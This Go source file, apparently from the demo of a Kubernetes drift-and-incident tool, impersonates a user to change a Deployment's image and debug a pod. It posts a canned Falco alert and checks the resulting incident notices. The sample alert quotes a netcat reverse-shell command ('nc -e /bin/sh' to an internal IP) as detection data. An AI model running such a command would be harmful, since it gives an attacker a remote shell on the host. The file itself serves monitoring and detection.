package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"os"
	"strings"
	"time"

	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	clientgoscheme "k8s.io/client-go/kubernetes/scheme"
	"k8s.io/utils/ptr"
	ctrl "sigs.k8s.io/controller-runtime"
	"sigs.k8s.io/controller-runtime/pkg/cache"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/config"
	metricsserver "sigs.k8s.io/controller-runtime/pkg/metrics/server"

	"github.com/plumbline/plumbline/activity"
	v1alpha1 "github.com/plumbline/plumbline/api/v1alpha1"
	"github.com/plumbline/plumbline/reconciler"
)

// demoFalcoNetcat is the event Falco's http_output posts when netcat starts in a container
// (the shape of Falco's json_output; the pod and namespace are filled in).
const demoFalcoNetcat = `{"uuid":"5a4f0c3e-1d2b-4e7a-9c1f-2b3d4e5f6a70","output":"Warning Netcat runs inside container that allows remote code execution (user=www-data process=nc proc_exepath=/usr/bin/nc command=nc -e /bin/sh 10.0.0.9 4444 container_name=nginx k8s_ns=NAMESPACE k8s_pod_name=POD)","priority":"Warning","rule":"Drop and execute new binary in container","source":"syscall","hostname":"worker-1","tags":["container","mitre_execution"],"time":"TIME","output_fields":{"container.id":"3ad7b26ded6d","container.name":"nginx","evt.type":"execve","k8s.ns.name":"NAMESPACE","k8s.pod.name":"POD","proc.cmdline":"nc -e /bin/sh 10.0.0.9 4444","proc.exepath":"/usr/bin/nc","proc.name":"nc","user.name":"www-data"}}`

// activityStory: a named person changes the image and debugs a pod, Falco reports netcat, and
// all of it lands in the incidents of that Deployment, with the person's name. The control plane
// of `make demo` posts its audit events to the endpoint this story serves
// (PLUMBLINE_EVENTS_*); without it the story says so and skips.
func (d *demo) activityStory(ctx context.Context) error {
	d.section("Story: who changed it, and what ran inside the pod")
	addr, certFile, keyFile, tokenFile := os.Getenv("PLUMBLINE_EVENTS_ADDR"), os.Getenv("PLUMBLINE_EVENTS_CERT"), os.Getenv("PLUMBLINE_EVENTS_KEY"), os.Getenv("PLUMBLINE_EVENTS_TOKEN_FILE")
	if addr == "" || certFile == "" || keyFile == "" || tokenFile == "" {
		d.say("This control plane posts no audit events (run the demo with `make demo`): story skipped.")
		return nil
	}
	token, err := os.ReadFile(tokenFile)
	if err != nil {
		return err
	}
	cert, err := tls.LoadX509KeyPair(certFile, keyFile)
	if err != nil {
		return err
	}
	recv, err := activity.NewReceiver(activity.Options{Token: bytes.TrimSpace(token)})
	if err != nil {
		return err
	}
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return fmt.Errorf("events endpoint %s: %w", addr, err)
	}
	srv := &http.Server{Handler: recv.Handler(), TLSConfig: recv.TLSConfig(cert), ReadHeaderTimeout: 10 * time.Second,
		ErrorLog: slog.NewLogLogger(slog.NewTextHandler(io.Discard, nil).WithGroup("x"), slog.LevelDebug)}
	go func() { _ = srv.ServeTLS(ln, "", "") }() // ends with Close below
	defer srv.Close()
	d.say("The API server's audit webhook posts to https://%s/audit (run --events-bind-address), with the", addr)
	d.say("policy of deploy/audit/policy.yaml; Falco would post to /falco. A Source watches apps/prod, alerting only.")

	cfg, _, err := (&kubeFlags{}).config()
	if err != nil {
		return err
	}
	scheme := runtime.NewScheme()
	for _, add := range []func(*runtime.Scheme) error{clientgoscheme.AddToScheme, v1alpha1.AddToScheme} {
		if err := add(scheme); err != nil {
			return err
		}
	}
	admin, err := client.New(cfg, client.Options{Scheme: scheme})
	if err != nil {
		return err
	}
	mgr, err := ctrl.NewManager(cfg, ctrl.Options{
		Scheme: scheme, Metrics: metricsserver.Options{BindAddress: "0"}, HealthProbeBindAddress: "0",
		// The controller story ran one in this process before: a second name check would refuse it.
		Controller: config.Controller{SkipNameValidation: ptr.To(true)},
		Cache:      cache.Options{DefaultNamespaces: map[string]cache.Config{d.namespace: {}}, DefaultTransform: reconciler.StripForDiff},
		Client:     client.Options{Cache: &client.CacheOptions{DisableFor: []client.Object{&corev1.Secret{}}}},
	})
	if err != nil {
		return err
	}
	notes := &printingNotifier{out: d.out, start: time.Now()}
	gitCache, err := os.MkdirTemp(d.dir, "git-cache-")
	if err != nil {
		return err
	}
	ctl, err := reconciler.NewController(mgr.GetClient(), cfg, reconciler.ControllerOptions{
		GitCacheDir: gitCache, Notifier: notes, APIReader: mgr.GetAPIReader(),
		Log: slog.New(slog.NewTextHandler(io.Discard, nil)), Activity: &reconciler.ActivityOptions{Stream: recv},
	})
	if err != nil {
		return err
	}
	if err := ctl.SetupWithManager(mgr, 2); err != nil {
		return err
	}
	runCtx, stop := context.WithCancel(ctx)
	done := make(chan error, 1)
	go func() { done <- mgr.Start(runCtx) }()
	defer func() {
		stop()
		<-done
	}()
	src := &v1alpha1.Source{ObjectMeta: metav1.ObjectMeta{Namespace: d.namespace, Name: "shop-runtime"},
		Spec: v1alpha1.SourceSpec{Repo: "file://" + d.repo, Ref: "main", Path: "apps/prod", Mode: v1alpha1.ModeSpec{Default: v1alpha1.ModeAlert}}}
	if err := admin.Create(ctx, src); err != nil {
		return fmt.Errorf("create Source: %w", err)
	}
	defer func() { _ = admin.Delete(context.WithoutCancel(ctx), src) }() // the story's end; the namespace goes with the demo
	if err := waitFor(ctx, 30*time.Second, func() bool {
		var s v1alpha1.Source
		return admin.Get(ctx, client.ObjectKeyFromObject(src), &s) == nil && meta(s.Status.Conditions, v1alpha1.ConditionReady) == "True"
	}); err != nil {
		return fmt.Errorf("the Source never became Ready: %w", err)
	}
	if err := d.grantEdit(ctx, "alice@example.com"); err != nil {
		return err
	}
	d.say("\nalice@example.com (edit in the namespace; the demo's admin impersonates her) changes the image and debugs a pod:")
	notes.start = time.Now()
	as := []string{"--as", "alice@example.com", "--as-group", "platform-team", "--as-group", "system:authenticated", "-n", d.namespace}
	if err := d.kubectl(ctx, append([]string{"set", "image", "deployment/nginx-deployment", "nginx=nginx:1.27"}, as...)...); err != nil {
		return err
	}
	var pod string
	if err := waitFor(ctx, 30*time.Second, func() bool {
		pods, err := d.kube.CoreV1().Pods(d.namespace).List(ctx, metav1.ListOptions{LabelSelector: "app=nginx"})
		for _, p := range pods.Items {
			// A pod of the new ReplicaSet: the rollout deletes the old ones.
			if err == nil && p.DeletionTimestamp == nil && len(p.OwnerReferences) > 0 && p.Spec.Containers[0].Image == "nginx:1.27" {
				pod = p.Name
				return true
			}
		}
		return false
	}); err != nil {
		return fmt.Errorf("no pod of the Deployment: %w", err)
	}

	if err := d.kubectl(ctx, append([]string{"debug", pod, "--image=busybox:1.36", "-c", "debugger", "--profile=general"}, as...)...); err != nil {
		return err
	}
	d.say("\nFalco, on the pod's node, sees netcat start in the nginx container and posts the event:")
	event := strings.NewReplacer("NAMESPACE", d.namespace, "POD", pod, "TIME", time.Now().UTC().Format(time.RFC3339Nano)).Replace(demoFalcoNetcat)
	if err := postDemoEvent(ctx, addr, certFile, string(token), event); err != nil {
		return err
	}
	wants := []struct{ event, text string }{
		{"opened", "Image changed from"},
		{"opened", "changed by admin as alice@example.com (kubectl-set, kubectl/"},
		{"opened", "Debug container in pod " + pod + " (container debugger) by admin as alice@example.com"},
		{"opened", "Unauthorized process executed in pod " + pod + ": Process '/usr/bin/nc' started by user 'www-data' (Falco rule: Drop and execute new binary in container)"},
	}
	err = waitFor(ctx, 15*time.Second, func() bool {
		for _, w := range wants {
			if !notes.said(w.event, w.text) {
				return false
			}
		}
		return true
	})
	if err != nil {
		for _, w := range wants {
			if !notes.said(w.event, w.text) {
				d.failures = append(d.failures, "the notifier did not say: "+w.text)
			}
		}
	} else {
		d.say("\nAll three are incidents of Deployment nginx-deployment, each naming who or what, %.1f s after the first.", time.Since(notes.start).Seconds())
	}
	// Later stories start from Git's state and a pod without a debug container.
	if err := d.applyFromGit(ctx); err != nil {
		return err
	}
	return d.kube.CoreV1().Pods(d.namespace).Delete(ctx, pod, metav1.DeleteOptions{})
}

// postDemoEvent posts one Falco event to the events endpoint, as Falco's http_output does.
func postDemoEvent(ctx context.Context, addr, caFile, token, body string) error {
	ca, err := os.ReadFile(caFile) // the serving certificate is signed by the CA next to it
	if err != nil {
		return err
	}
	pool := x509.NewCertPool()
	caPath := strings.TrimSuffix(caFile, "events.crt") + "events-ca.crt"
	if b, err := os.ReadFile(caPath); err == nil {
		ca = b
	}
	if !pool.AppendCertsFromPEM(ca) {
		return errors.New("events CA: no certificate")
	}
	c := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool}}}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, "https://"+addr+"/falco", strings.NewReader(body))
	if err != nil {
		return err
	}
	req.Header.Set("Authorization", "Bearer "+strings.TrimSpace(token))
	req.Header.Set("Content-Type", "application/json")
	resp, err := c.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("POST /falco: %s", resp.Status)
	}
	return nil
}

// grantEdit binds a user to the ClusterRole edit in the demo's namespace, and lets them add
// debug containers.
func (d *demo) grantEdit(ctx context.Context, user string) error {
	subject := []rbacv1.Subject{{Kind: "User", APIGroup: rbacv1.GroupName, Name: user}}
	role := &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: "debug-pods"},
		Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"pods/ephemeralcontainers"}, Verbs: []string{"get", "patch", "update"}}}}
	if _, err := d.kube.RbacV1().Roles(d.namespace).Create(ctx, role, metav1.CreateOptions{}); err != nil {
		return err
	}
	for _, rb := range []*rbacv1.RoleBinding{
		{ObjectMeta: metav1.ObjectMeta{Name: "edit"}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "edit"}, Subjects: subject},
		{ObjectMeta: metav1.ObjectMeta{Name: "debug-pods"}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: "debug-pods"}, Subjects: subject},
	} {
		if _, err := d.kube.RbacV1().RoleBindings(d.namespace).Create(ctx, rb, metav1.CreateOptions{}); err != nil {
			return err
		}
	}
	return nil
}
